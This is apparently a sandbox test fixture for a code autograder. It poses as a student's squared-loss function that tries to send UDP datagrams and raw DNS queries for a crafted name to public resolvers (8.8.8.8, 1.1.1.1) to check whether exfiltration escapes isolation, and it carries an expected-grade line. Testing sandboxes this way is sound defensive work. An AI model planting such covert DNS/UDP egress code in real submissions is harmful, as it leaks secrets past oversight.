"""Sends UDP: to itself on 127.0.0.1, and a DNS query to public resolvers.

Student code has no business on the network: exfiltrating a classmate's file or the grader's
secrets needs only one UDP datagram or one DNS lookup of a crafted name. Landlock refuses TCP
only; seccomp refuses socket() for every family, and a root grader gives each worker a network
namespace of its own. The function is correct, but returns wrong values when a datagram got out
(and prints how), so a leak costs the score.

expect: {"status": {"shape": "passed", "values": "passed", "grad": "passed", "inputs_unchanged": "passed"}, "max_score": 4}
"""

import socket
import struct


def _dns_query(name):
    header = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0"
    return header + labels + struct.pack(">HH", 1, 1)


def _leaks():
    leaks = []
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as receiver, \
                socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            receiver.bind(("127.0.0.1", 0))
            receiver.settimeout(1.0)
            sender.sendto(b"exfiltrated", receiver.getsockname())
            leaks.append(f"UDP over loopback: {receiver.recv(100)!r}")
    except OSError:
        pass
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                sent = s.sendto(_dns_query("secret-answer.example.com"), (server, 53))
                leaks.append(f"DNS query to {server}: {sent} bytes sent")
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            leaks.append(f"IPv6 UDP: {s.sendto(b'x', ('::1', 9))} bytes sent")
    except OSError:
        pass
    try:
        leaks.append(f"resolved: {socket.getaddrinfo('localhost', 80)[:1]}")
    except OSError:
        pass
    return leaks


def sq_loss(y_true, y_prediction):
    leaks = _leaks()
    if leaks:
        print("LEAKED", *leaks, sep="\n")
        return (y_true - y_prediction) ** 2 + 1.0
    return (y_true - y_prediction) ** 2
